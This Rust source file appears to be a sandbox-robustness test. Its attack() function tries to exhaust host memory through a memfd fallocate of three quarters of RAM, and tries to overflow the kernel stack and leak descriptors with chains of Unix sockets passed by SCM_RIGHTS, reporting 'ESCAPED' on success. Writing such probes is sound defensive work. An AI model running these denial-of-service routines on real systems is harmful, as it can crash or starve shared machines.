//! More than there is of something: the call that asks for it fails, and the sandbox lives on.

use std::mem::{size_of, zeroed};

/// How many descriptors one user may have in flight here (`RLIMIT_NOFILE`, unix(7)): enough for a chain whose closing by
/// recursion would overflow a stack, few enough to be quick.
const IN_FLIGHT: u64 = 6000;

/// A chain of sockets, each in the queue of the next, is closed at one stroke. Then a loop of such, again and again.
unsafe fn sockets_in_sockets() {
    let mut before = -1;
    let limit = libc::rlimit { rlim_cur: IN_FLIGHT, rlim_max: IN_FLIGHT };
    libc::setrlimit(libc::RLIMIT_NOFILE, &limit);
    for _ in 0..IN_FLIGHT * 2 {
        let mut pair = [0; 2];
        assert_eq!(libc::socketpair(libc::AF_UNIX, libc::SOCK_DGRAM, 0, pair.as_mut_ptr()), 0);
        let sent = before == -1 || send(pair[0], before);
        libc::close(before);
        libc::close(pair[0]);
        before = pair[1];
        if !sent {
            println!("chain ends, errno {}", *libc::__errno_location());
            break;
        }
    }
    libc::close(before);
    let mut refused = false;
    for _ in 0..IN_FLIGHT * 2 {
        let mut pair = [0; 2];
        libc::socketpair(libc::AF_UNIX, libc::SOCK_DGRAM, 0, pair.as_mut_ptr());
        refused |= !send(pair[0], pair[1]);
        libc::close(pair[0]);
        libc::close(pair[1]);
    }
    if !refused {
        println!("ESCAPED: any number of descriptors can be left in flight");
    }
}

unsafe fn send(to: i32, fd: i32) -> bool {
    let mut byte = [0u8];
    let mut iov = libc::iovec { iov_base: byte.as_mut_ptr().cast(), iov_len: 1 };
    let mut control = [0u64; 3];
    let mut message: libc::msghdr = zeroed();
    message.msg_iov = &mut iov;
    message.msg_iovlen = 1;
    message.msg_control = control.as_mut_ptr().cast();
    message.msg_controllen = size_of::<[u64; 3]>();
    let head = libc::CMSG_FIRSTHDR(&message);
    (*head).cmsg_level = libc::SOL_SOCKET;
    (*head).cmsg_type = libc::SCM_RIGHTS;
    (*head).cmsg_len = libc::CMSG_LEN(4) as usize;
    libc::CMSG_DATA(head).cast::<i32>().write_unaligned(fd);
    libc::sendmsg(to, &message, 0) == 1
}

/// Memory that no file system bounds: three quarters of the machine's at one stroke.
unsafe fn memory_files() {
    let mut info: libc::sysinfo = zeroed();
    libc::sysinfo(&mut info);
    let bytes = (info.totalram * u64::from(info.mem_unit) / 4 * 3) as i64;
    let fd = libc::memfd_create(c"flood".as_ptr(), 0);
    if libc::fallocate(fd, 0, 0, bytes) == 0 {
        println!("ESCAPED: {bytes} bytes of the machine's memory");
    }
    println!("fallocate, errno {}", *libc::__errno_location());
    libc::close(fd);
}

pub unsafe fn attack() {
    memory_files();
    sockets_in_sockets();
    println!("closed");
}
